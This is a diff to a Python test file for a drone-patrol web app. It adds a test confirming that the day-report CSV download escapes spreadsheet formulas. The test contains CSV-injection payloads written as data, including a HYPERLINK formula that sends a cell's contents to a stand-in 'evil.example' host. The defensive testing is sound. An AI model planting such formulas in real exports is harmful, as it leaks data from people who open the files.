@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import copy
+import csv
+import io
 import json
 import math
 import stat
@@ -11,7 +14,13 @@ from pathlib import Path
 
 import pytest
 from flask import Flask
-from support import TEST_PASSWORD_COST, wait_until
+from support import (
+    REPORT_DAY,
+    REPORT_NETWORK,
+    TEST_PASSWORD_COST,
+    seed_report_day,
+    wait_until,
+)
 
 from dronepatrol.accounts import AccountService, Role
 from dronepatrol.accounts import service as account_service
@@ -19,6 +28,7 @@ from dronepatrol.accounts.passwords import DEFAULT_LOG2_N, hash_password
 from dronepatrol.database import make_engine, upgrade
 from dronepatrol.events import Event, EventKind
 from dronepatrol.mavlink.tlog import TlogWriter
+from dronepatrol.network import parse_network
 from dronepatrol.records.archive import SortieRecord, SortieSummary
 from dronepatrol.settings import Settings
 from dronepatrol.web import create_app
@@ -510,3 +520,27 @@ def test_an_unread_parameter_still_hears_401_and_403_first(app: Flask, token_for
     viewer = token_for("viewer")
     assert client.post("/api/incidents?x=1", json={}, headers=viewer).status_code == 403
     assert client.get("/api/sorties?limit=5", headers=viewer).status_code == 200  # it reads one
+
+
+# ------------------------------------------------------------------ downloads
+
+
+def test_the_day_report_csv_never_hands_a_spreadsheet_a_formula(app: Flask, token_for) -> None:
+    """A target named ``=HYPERLINK(...)`` in a network or event file became a live formula
+    in the commander's spreadsheet (OWASP's CSV injection)."""
+    network = copy.deepcopy(REPORT_NETWORK)
+    hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)", "+1+cmd", "-2+3"]
+    targets = [f for f in network["features"] if f["properties"]["kind"] != "station"]
+    for feature, name in zip(targets, hostile, strict=False):
+        feature["properties"]["name"] = name
+    room = app.extensions["dronepatrol"]
+    room.network, issues = parse_network(network)
+    assert not issues
+    seed_report_day(room.engine)
+    query = f"date={REPORT_DAY}&tz=%2B08:00"
+    answer = app.test_client().get(f"/api/reports/day.csv?{query}", headers=token_for("viewer"))
+    rows = list(csv.DictReader(io.StringIO(answer.get_data(as_text=True))))
+    names = {r["name"] for r in rows if r["level"] == "target"}
+    assert names == {"'" + name for name in hostile[: len(targets)]}
+    assert all(not v.startswith(("=", "+", "@")) for r in rows for v in r.values())
+    assert any(r["on_time_rate"] for r in rows)  # figures stay figures
